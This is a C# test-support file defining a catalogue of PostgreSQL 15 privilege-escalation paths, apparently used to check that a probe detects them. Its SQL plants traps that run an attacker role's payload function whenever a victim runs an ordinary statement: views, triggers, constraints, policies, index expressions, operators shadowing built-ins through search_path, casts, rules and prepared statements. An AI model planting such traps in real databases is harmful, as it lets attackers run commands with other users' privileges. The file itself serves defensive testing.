namespace TraceLab.IntegrationTests.Support;

/// <summary>The paths of issue 3's "Done when": every way PostgreSQL 15 lets one role's stored code run with another's
/// rights that the probe must record, each with the statement a victim innocently runs.</summary>
public static class AttackPaths
{
    /// <summary>The payload and helpers every path builds on, created by <c>{owner}</c> in its own schema.</summary>
    /// <remarks>
    /// f_evil runs the payload; it swallows insufficient_privilege so that setup (which may evaluate stored code as the
    /// attacker) does not fail. f_imm and f_check are IMMUTABLE, as index expressions, generated columns and predicates
    /// demand; PL/pgSQL runs them read-only, but f_evil, which they call, is VOLATILE and may run DDL.
    /// </remarks>
    public const string Prelude = """
        CREATE FUNCTION {owner}.f_evil() RETURNS integer LANGUAGE plpgsql AS $$
        BEGIN
            EXECUTE '{payload}';
            RETURN 1;
        EXCEPTION WHEN insufficient_privilege THEN
            RETURN 0;
        END $$;
        CREATE FUNCTION {owner}.f_imm(i integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
        BEGIN PERFORM {owner}.f_evil(); RETURN i; END $$;
        CREATE FUNCTION {owner}.f_check(i integer) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
        BEGIN PERFORM {owner}.f_evil(); RETURN true; END $$;
        CREATE FUNCTION {owner}.f_trg_row() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN PERFORM {owner}.f_evil(); RETURN NEW; END $$;
        CREATE FUNCTION {owner}.f_trg_stmt() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN PERFORM {owner}.f_evil(); RETURN NULL; END $$;
        """;

    public static IReadOnlyList<AttackPath> All { get; } =
    [
        new("view", "alice", "view",
            "CREATE VIEW {owner}.v AS SELECT {owner}.f_evil() AS x; GRANT SELECT ON {owner}.v TO PUBLIC;",
            ["SELECT * FROM {owner}.v"]),
        new("trigger fired by INSERT", "alice", "trigger",
            """
            CREATE TABLE {owner}.t(id integer); GRANT INSERT ON {owner}.t TO PUBLIC;
            CREATE TRIGGER tr BEFORE INSERT ON {owner}.t FOR EACH ROW EXECUTE FUNCTION {owner}.f_trg_row();
            """,
            ["INSERT INTO {owner}.t VALUES (1)"]),
        new("trigger fired by COPY FROM", "alice", "trigger",
            """
            CREATE TABLE {owner}.t(id integer); GRANT INSERT ON {owner}.t TO PUBLIC;
            CREATE TRIGGER tr BEFORE INSERT ON {owner}.t FOR EACH ROW EXECUTE FUNCTION {owner}.f_trg_row();
            """,
            ["COPY {owner}.t FROM PROGRAM 'echo 1'"]),
        new("trigger fired by TRUNCATE", "alice", "trigger",
            """
            CREATE TABLE {owner}.t(id integer); GRANT TRUNCATE ON {owner}.t TO PUBLIC;
            CREATE TRIGGER tr BEFORE TRUNCATE ON {owner}.t FOR EACH STATEMENT EXECUTE FUNCTION {owner}.f_trg_stmt();
            """,
            ["TRUNCATE {owner}.t"]),
        new("deferred trigger fired at COMMIT", "alice", "trigger",
            """
            CREATE TABLE {owner}.t(id integer); GRANT INSERT ON {owner}.t TO PUBLIC;
            CREATE CONSTRAINT TRIGGER tr AFTER INSERT ON {owner}.t DEFERRABLE INITIALLY DEFERRED
                FOR EACH ROW EXECUTE FUNCTION {owner}.f_trg_row();
            """,
            ["BEGIN", "INSERT INTO {owner}.t VALUES (1)", "COMMIT"],
            Phase: "commit"),
        new("column default", "alice", "default",
            "CREATE TABLE {owner}.t(id integer, c integer DEFAULT {owner}.f_evil()); GRANT INSERT ON {owner}.t TO PUBLIC;",
            ["INSERT INTO {owner}.t(id) VALUES (1)"]),
        new("generated column", "alice", "generated_column",
            """
            CREATE TABLE {owner}.t(id integer, g integer GENERATED ALWAYS AS ({owner}.f_imm(id)) STORED);
            GRANT INSERT ON {owner}.t TO PUBLIC;
            """,
            ["INSERT INTO {owner}.t(id) VALUES (1)"]),
        new("CHECK constraint", "alice", "check_constraint",
            "CREATE TABLE {owner}.t(id integer CHECK ({owner}.f_check(id))); GRANT INSERT ON {owner}.t TO PUBLIC;",
            ["INSERT INTO {owner}.t VALUES (1)"]),
        new("domain constraint", "alice", "domain_constraint",
            """
            CREATE DOMAIN {owner}.checked AS integer CHECK ({owner}.f_check(VALUE));
            CREATE TABLE {owner}.t(id {owner}.checked); GRANT INSERT ON {owner}.t TO PUBLIC;
            """,
            ["INSERT INTO {owner}.t VALUES (1)"]),
        new("row-level security policy", "bob", "policy",
            """
            CREATE TABLE {owner}.t(id integer); INSERT INTO {owner}.t VALUES (1);
            ALTER TABLE {owner}.t ENABLE ROW LEVEL SECURITY; ALTER TABLE {owner}.t FORCE ROW LEVEL SECURITY;
            CREATE POLICY p_all ON {owner}.t USING ({owner}.f_check(id));
            GRANT SELECT ON {owner}.t TO PUBLIC;
            """,
            ["SELECT * FROM {owner}.t"]),
        new("expression index on INSERT", "alice", "index_expression",
            """
            CREATE TABLE {owner}.t(id integer); GRANT INSERT ON {owner}.t TO PUBLIC;
            CREATE INDEX t_expr ON {owner}.t ({owner}.f_imm(id));
            """,
            ["INSERT INTO {owner}.t VALUES (1)"]),
        new("partial-index predicate while planning", "alice", "index_predicate",
            """
            CREATE TABLE {owner}.t(id integer); GRANT SELECT ON {owner}.t TO PUBLIC;
            CREATE INDEX t_partial ON {owner}.t (id) WHERE id > {owner}.f_imm(0);
            """,
            ["SELECT * FROM {owner}.t WHERE id > 5"],
            Phase: "planning"),
        new("const-folding under plain EXPLAIN", "alice", "function",
            "CREATE TABLE {owner}.t(id integer); GRANT SELECT ON {owner}.t TO PUBLIC;",
            ["EXPLAIN SELECT * FROM {owner}.t WHERE id = {owner}.f_imm(1)"],
            Phase: "planning"),
        new("operator shadowing a built-in through search_path", "alice", "operator",
            """
            CREATE FUNCTION {owner}.f_eq(a integer, b integer) RETURNS boolean LANGUAGE plpgsql AS $$
            BEGIN PERFORM {owner}.f_evil(); RETURN a OPERATOR(pg_catalog.=) b; END $$;
            CREATE OPERATOR {owner}.= (LEFTARG = integer, RIGHTARG = integer, FUNCTION = {owner}.f_eq);
            """,
            ["SET search_path = {owner}, pg_catalog", "SELECT 1 = 1"]),
        new("cast", "alice", "cast",
            """
            CREATE TYPE {owner}.wrapped AS (v integer);
            CREATE FUNCTION {owner}.f_cast(w {owner}.wrapped) RETURNS integer LANGUAGE plpgsql AS $$
            BEGIN PERFORM {owner}.f_evil(); RETURN w.v; END $$;
            CREATE CAST ({owner}.wrapped AS integer) WITH FUNCTION {owner}.f_cast({owner}.wrapped);
            """,
            ["SET search_path = {owner}, pg_catalog", "SELECT CAST(ROW(1)::wrapped AS integer)"]),
        new("aggregate shadowing a built-in through search_path", "alice", "aggregate",
            """
            CREATE FUNCTION {owner}.f_sfunc(s integer, v integer) RETURNS integer LANGUAGE plpgsql AS $$
            BEGIN PERFORM {owner}.f_evil(); RETURN coalesce(s, 0) + v; END $$;
            CREATE AGGREGATE {owner}.sum(integer) (SFUNC = {owner}.f_sfunc, STYPE = integer);
            """,
            ["SET search_path = {owner}, pg_catalog", "SELECT sum(x) FROM (VALUES (1)) AS v(x)"]),
        new("rule", "alice", "rule",
            """
            CREATE TABLE {owner}.t(id integer); GRANT INSERT ON {owner}.t TO PUBLIC;
            CREATE RULE r_also AS ON INSERT TO {owner}.t DO ALSO SELECT {owner}.f_evil();
            """,
            ["INSERT INTO {owner}.t VALUES (1)"]),
        new("event trigger", "alice", "event_trigger",
            """
            CREATE FUNCTION {owner}.f_evt() RETURNS event_trigger LANGUAGE plpgsql AS $$
            BEGIN PERFORM {owner}.f_evil(); END $$;
            """,
            ["CREATE TABLE {alice}.x(i integer)"],
            AdminSetup: "CREATE EVENT TRIGGER et_lab ON ddl_command_start EXECUTE FUNCTION {owner}.f_evt()"),
        new("statement prepared by one role and executed by another", "alice", "prepared_statement",
            "",
            ["SET ROLE {owner}", "PREPARE p_lab AS SELECT {owner}.f_evil()", "RESET ROLE", "EXECUTE p_lab"]),
        new("statement prepared by another role's function", "alice", "prepared_statement",
            """
            CREATE FUNCTION {owner}.f_prepare() RETURNS void LANGUAGE plpgsql AS $$
            BEGIN EXECUTE 'PREPARE p_fn AS SELECT {owner}.f_evil()'; END $$;
            """,
            ["SELECT {owner}.f_prepare()", "EXECUTE p_fn"]),
    ];
}
